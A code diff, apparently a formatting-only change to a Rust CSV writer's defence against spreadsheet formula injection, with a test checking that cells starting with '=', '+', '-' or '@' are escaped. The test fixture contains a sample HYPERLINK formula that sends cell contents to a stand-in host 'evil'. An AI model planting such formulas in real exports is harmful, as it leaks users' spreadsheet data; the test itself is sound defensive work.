@@ -62,7 +62,10 @@ fn known(b: &mut Vec<u8>, value: &str) {
 /// Whether Excel (and other spreadsheets) would run the cell as a formula:
 /// it starts with `=`, `+`, `-`, `@`, a tab or a CR (OWASP's list).
 fn formula_like(value: &[u8]) -> bool {
-    matches!(value.first(), Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r'))
+    matches!(
+        value.first(),
+        Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r')
+    )
 }
 
 /// A cell for `--excel`: one that a spreadsheet would run as a formula
@@ -235,7 +238,10 @@ mod tests {
     fn excel_cells_never_start_a_formula() {
         let mut scratch = Vec::new();
         for (value, written) in [
-            ("=HYPERLINK(\"http://evil/?x=\"&A1,\"click\")", "\"'=HYPERLINK(\"\"http://evil/?x=\"\"&A1,\"\"click\"\")\""),
+            (
+                "=HYPERLINK(\"http://evil/?x=\"&A1,\"click\")",
+                "\"'=HYPERLINK(\"\"http://evil/?x=\"\"&A1,\"\"click\"\")\"",
+            ),
             ("+1", "'+1"),
             ("-5,346", "\"'-5,346\""),
             ("@SUM(A1)", "'@SUM(A1)"),
